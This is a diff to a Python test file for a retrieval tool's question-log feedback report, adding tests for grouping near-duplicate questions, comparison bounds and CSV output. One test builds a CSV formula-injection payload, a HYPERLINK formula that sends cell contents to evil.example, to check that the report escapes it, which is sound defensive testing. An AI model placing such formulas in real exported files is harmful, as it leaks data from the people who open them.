@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import random
 import sqlite3
 import time
 import tomllib
@@ -14,7 +15,9 @@ import pytest
 
 from retrieval import RetrievalError
 from retrieval.cli.cli import main
+from retrieval.evaluate import feedback
 from retrieval.evaluate.feedback import SCHEMA, Asked, group, report_from_file
+from retrieval.evaluate.report_bench import synthetic_questions
 
 DAY = 86400
 
@@ -72,7 +75,7 @@ def test_eval_feedback_prints_the_report(tmp_path: Path, capsys):
     out = capsys.readouterr().out
     assert "4 questions in the last 30 days" in out and "  2x  How do I reset my password?" in out
     assert main(["eval", "--feedback", str(log), "--days", "30", "--csv"]) == 0
-    assert capsys.readouterr().out.startswith("part,question,times,variants,down_votes,shown")
+    assert capsys.readouterr().out.startswith('"part","question","times","variants","down_votes","shown"')
     assert main(["eval", "--feedback", str(tmp_path / "none.sqlite")]) == 1
     assert "question log" in capsys.readouterr().err
 
@@ -82,3 +85,70 @@ def test_a_file_that_is_not_a_log_is_one_error(tmp_path: Path):
     bad.write_text("not a database")
     with pytest.raises(RetrievalError, match="cannot be read"):
         report_from_file(bad, 30)
+
+
+def grouped_comparing_every_pair(questions: list[Asked]) -> list[list[str]]:
+    """What grouping means, the slow way: each question joins the first group whose first question it is close to."""
+    groups: list[tuple[frozenset[str], list[str]]] = []
+    for item in sorted(questions, key=lambda a: a.asked_at):
+        found = feedback.words(item.question)
+        home = next((members for key, members in groups if feedback.similar(key, found)), None)
+        if home is None:
+            home = []
+            groups.append((found, home))
+        home.append(item.question)
+    return [members for _, members in groups]
+
+
+def test_grouping_finds_what_comparing_every_pair_finds():
+    questions = [asked(q, at=n) for n, q in enumerate(synthetic_questions(2000, seed=7))]
+    questions += [asked(q, at=2000 + n) for n, q in enumerate(["?", "the?", "Who founded NAUH?", "who founded nauh",
+                                                               "Who founded NAUH then?", "When was NAUH founded?"])]
+    found = [[a.question for a in g.asked] for g in group(questions)]
+    expected = grouped_comparing_every_pair(questions)
+    assert found == expected
+    assert sum(len(g) > 1 for g in found) > 200  # the log does hold near-duplicates to find
+
+
+def test_grouping_compares_a_question_with_a_few_groups_not_all(monkeypatch: pytest.MonkeyPatch):
+    compared = 0
+    similar = feedback.similar
+
+    def counted(a, b):
+        nonlocal compared
+        compared += 1
+        return similar(a, b)
+
+    monkeypatch.setattr(feedback, "similar", counted)
+    questions = [asked(q, at=n) for n, q in enumerate(synthetic_questions(5000, seed=3))]
+    group(questions)
+    assert compared < 20 * len(questions)  # comparing with every group before would be thousands each
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_report_csv_holds_no_live_formula(start: str):
+    hostile = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    found = feedback.report([asked(hostile, covered=False, at=1), asked(hostile, covered=False, at=2)], days=30)
+    text = found.csv()
+    rows = list(csv.reader(io.StringIO(text)))
+    assert [row[1] for row in rows[1:]] == [f"'{hostile}"] * 2  # not covered, and most asked
+    assert all(row[3] == f"'{hostile}" for row in rows[1:])  # the variants too
+    assert text.splitlines()[1].startswith('"not covered","\'')  # every cell quoted, as OWASP advises
+
+
+def test_a_log_built_to_defeat_the_filter_compares_at_most_the_cap(monkeypatch: pytest.MonkeyPatch):
+    compared = 0
+    similar = feedback.similar
+
+    def counted(a, b):
+        nonlocal compared
+        compared += 1
+        return similar(a, b)
+
+    monkeypatch.setattr(feedback, "similar", counted)
+    rng = random.Random(5)
+    vocabulary = [f"word{n}" for n in range(30)]  # few words in many combinations: every pair is common
+    questions = [asked(" ".join(rng.sample(vocabulary, 8)), at=n) for n in range(3000)]
+    group(questions)
+    assert compared <= feedback.MAX_COMPARED * len(questions)
+    assert compared > 20 * len(questions)  # the filter does not help here: the cap is what bounds it
